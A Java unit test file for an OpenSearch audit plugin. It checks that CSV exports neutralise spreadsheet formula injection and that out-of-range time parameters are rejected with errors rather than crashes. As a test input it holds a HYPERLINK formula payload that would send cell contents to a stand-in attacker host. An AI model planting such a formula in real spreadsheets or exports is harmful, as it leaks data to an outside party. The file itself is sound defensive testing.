/*
 * SPDX-License-Identifier: Apache-2.0
 */
package io.devopsaudit.investigate;

import org.opensearch.test.OpenSearchTestCase;

import java.time.Instant;
import java.util.List;
import java.util.Map;

import static org.hamcrest.Matchers.containsString;

/** CSV answers cannot run formulas in a spreadsheet; time parameters outside years 0000-9999 are a 400, never a crash. */
public class FormulaSafeCsvTests extends OpenSearchTestCase {

    public void testCellsThatAFormulaCouldStartWithAreGuarded() {
        for (String s :
                List.of("=HYPERLINK(\"http://evil.example/x?\"&A1,\"open\")", "+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
            assertEquals("'" + s, Export.formulaSafe(s));
        }
        for (String s : List.of("jdoe", "203.0.113.7", "2024-01-01T00:00:00.000Z", "'=already", " =x")) {
            assertEquals(s, Export.formulaSafe(s));
        }
        assertEquals("", Export.formulaSafe(null));
    }

    public void testAccessReportCsvIsGuarded() {
        List<AccessReportResult.UserRow> users = List.of(new AccessReportResult.UserRow(
                "=HYPERLINK(\"http://evil.example/x?\"&A1,\"open\")",
                1,
                List.of("203.0.113.7"),
                List.of(),
                "2024-01-01T00:00:00.000Z",
                "2024-01-01T00:00:00.000Z"));
        assertEquals(
                "kind,identity,accesses,related,first,last\n"
                        + "user,\"'=HYPERLINK(\"\"http://evil.example/x?\"\"&A1,\"\"open\"\")\",1,203.0.113.7,"
                        + "2024-01-01T00:00:00.000Z,2024-01-01T00:00:00.000Z\n",
                AccessReport.csv(users, List.of()));
    }

    public void testTimeParametersOutsideFourDigitYearsAre400s() {
        Instant now = Instant.parse("2026-01-01T00:00:00Z");
        for (Object bad :
                List.of("+1000000000-12-31T23:59:59Z", Long.MIN_VALUE, 1e19, 1e300, "+10000-01-01T00:00:00Z")) {
            IllegalArgumentException e = expectThrows(
                    IllegalArgumentException.class, () -> InvestigationFilter.time(Map.of("to", bad), "to", now));
            assertThat(e.getMessage(), containsString("[to] must be"));
            e = expectThrows(IllegalArgumentException.class, () -> Export.parse(Map.of("from", bad), "csv", now));
            assertThat(e.getMessage(), containsString("[from] must be"));
        }
        assertEquals(
                Instant.parse("2024-03-01T00:00:00Z"),
                InvestigationFilter.time(Map.of("to", "2024-03-01T00:00:00Z"), "to", now));
    }

    public void testAnExtremeStoredTimeGivesAClampedWindow() {
        assertEquals(ChangeContext.LATEST_MILLIS, ChangeContext.clamp("+292278994-08-17T07:12:55.807Z"));
        assertEquals(ChangeContext.LATEST_MILLIS, ChangeContext.clamp(Instant.MAX));
        assertEquals(ChangeContext.EARLIEST_MILLIS, ChangeContext.clamp(Instant.MIN));
        assertEquals(Instant.parse("2024-01-01T00:00:00Z"), ChangeContext.clamp("2024-01-01T00:00:00Z"));
    }
}
